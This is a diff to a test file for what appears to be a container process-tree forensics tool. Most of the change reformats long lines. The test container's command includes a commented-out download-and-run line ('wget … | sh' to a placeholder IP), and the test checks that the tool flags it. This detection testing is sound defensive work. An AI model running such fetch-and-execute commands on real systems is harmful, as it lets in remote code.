@@ -13,7 +13,14 @@ describe('process trees without exec', () => {
     t = startTestCore('drydock-ps');
     // An entrypoint shell with a background sleep and a nested shell that runs its own sleep, and a
     // download-and-run line an intruder would leave.
-    id = runContainer(['--name', name, BUSYBOX, 'sh', '-c', 'sleep 1001 & sh -c "sleep 1002; true" & sh -c "sleep 1003; true # wget -qO- http://203.0.113.9/x | sh" & wait']);
+    id = runContainer([
+      '--name',
+      name,
+      BUSYBOX,
+      'sh',
+      '-c',
+      'sleep 1001 & sh -c "sleep 1002; true" & sh -c "sleep 1003; true # wget -qO- http://203.0.113.9/x | sh" & wait',
+    ]);
     await t.call('hosts.add', { name: 'local', url: 'unix:///var/run/docker.sock' });
     await t.call('evidence.case-create', { name: 'Process case' });
     await waitFor(() => docker(['top', id]).includes('sleep 1003') || undefined, { what: 'all processes started' });
@@ -39,8 +46,11 @@ describe('process trees without exec', () => {
     assert.equal(grandchild?.parent, nested?.pid, 'the nested shell parents its own sleep');
     assert.equal(grandchild?.depth, 2);
     assert.ok(snapshot.processes.every((p) => p.inEntrypointLineage));
-    const dropper = byArgs("sh -c sleep 1003; true # wget");
-    assert.ok(dropper?.flags.some((f) => f.kind === 'download-exec'), 'wget | sh is flagged');
+    const dropper = byArgs('sh -c sleep 1003; true # wget');
+    assert.ok(
+      dropper?.flags.some((f) => f.kind === 'download-exec'),
+      'wget | sh is flagged',
+    );
     assert.ok(snapshot.flagged.includes(dropper!.pid));
     assert.ok(result.stored, 'the snapshot is stored in the case');
     const verify = await t.call('evidence.verify', {});
@@ -55,7 +65,10 @@ describe('process trees without exec', () => {
     const watch = await t.call('processes.watch', { host: 'local', container: name, intervalSeconds: 1 });
     try {
       docker(['exec', '-d', id, 'sleep', '1234']);
-      const appeared = await waitFor(() => samples.flatMap((s) => s.changes).find((c) => c.kind === 'appeared' && c.args === 'sleep 1234'), { what: 'the exec-started process', timeoutMs: 30000 });
+      const appeared = await waitFor(
+        () => samples.flatMap((s) => s.changes).find((c) => c.kind === 'appeared' && c.args === 'sleep 1234'),
+        { what: 'the exec-started process', timeoutMs: 30000 },
+      );
       const sample = samples.find((s) => s.changes.includes(appeared))!;
       const entry = sample.snapshot.processes.find((p) => p.pid === appeared.pid);
       assert.ok(entry?.execId, 'linked to the engine exec session');
